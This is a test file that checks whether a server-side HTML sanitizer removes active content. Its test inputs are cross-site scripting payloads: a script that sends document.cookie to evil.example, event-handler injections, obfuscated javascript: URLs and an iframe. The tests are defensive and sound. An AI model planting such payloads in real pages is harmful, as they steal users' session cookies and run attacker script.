/** sanitizeHtml during SSR: no window, no DOM (sanitize-html parses the markup itself), the browser's result. */
import { describe, expect, it } from 'vitest'
import { sanitizeHtml } from '~/lib/sanitize-html'

describe('sanitizeHtml on the server', () => {
  it('runs without a browser window and strips active content', () => {
    expect(typeof window).toBe('undefined')
    const clean = sanitizeHtml('<p>Hi</p><script>x()</script><img src=x onerror=alert(1)>')
    expect(clean).toBe('<p>Hi</p><img src="x">')
  })

  it('removes a script, an onerror handler and javascript: URLs however they are spelled', () => {
    expect(typeof window).toBe('undefined')
    const clean = sanitizeHtml(
      [
        '<p>Keep <b>me</b></p>',
        '<script>document.location="https://evil.example/?c="+document.cookie</script>',
        '<img src="https://shop.test/a.png" onerror="alert(1)" alt="A">',
        '<a href="javascript:alert(1)">one</a>',
        '<a href="JaVaScRiPt&colon;alert(2)">two</a>',
        '<a href=" java\tscript:alert(3)">three</a>',
        '<img src="javascript:alert(4)">',
        '<svg onload="alert(5)"><circle/></svg>',
        '<iframe src="https://evil.example"></iframe>',
        '<a href="https://ok.example" onclick="alert(6)">ok</a>',
      ].join(''),
    )
    expect(clean).not.toMatch(/script|onerror|onload|onclick|alert|iframe|svg|evil/i)
    // A link whose URL was dropped keeps its text and the safe-link attributes, and goes nowhere.
    const safe = 'target="_blank" rel="noopener noreferrer nofollow"'
    expect(clean).toBe(
      `<p>Keep <b>me</b></p><img src="https://shop.test/a.png" alt="A"><a ${safe}>one</a><a ${safe}>two</a><a ${safe}>three</a><img>` +
        `<a href="https://ok.example" ${safe}>ok</a>`,
    )
  })
})
